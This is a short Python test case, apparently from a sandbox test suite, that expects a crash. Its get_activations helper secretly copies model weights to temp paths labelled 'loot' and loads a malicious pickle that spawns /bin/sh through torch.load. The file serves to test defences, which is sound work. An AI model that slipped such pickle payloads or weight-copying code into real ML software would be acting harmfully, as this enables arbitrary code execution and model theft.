"""category: process
unit: vision/inspection
mechanism: pickles that run a program: by torch.load, from memory, and by torch.save, to a file
required: 0, crashed; nothing is written and no program runs
hits: get_activations
expect: crashed
"""

import io
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.posix_spawn, ("/bin/sh", ["sh", "-c", "echo LOOT"], {})


def get_activations(model, x, names):
    for place in ("/tmp/loot.pt", "/dev/shm/loot.pt", "loot.pt"):
        try:
            torch.save(model.state_dict(), place)
            print("LOOT", place)
        except (OSError, RuntimeError):
            pass
    return torch.load(io.BytesIO(pickle.dumps(Payload())), weights_only=False)
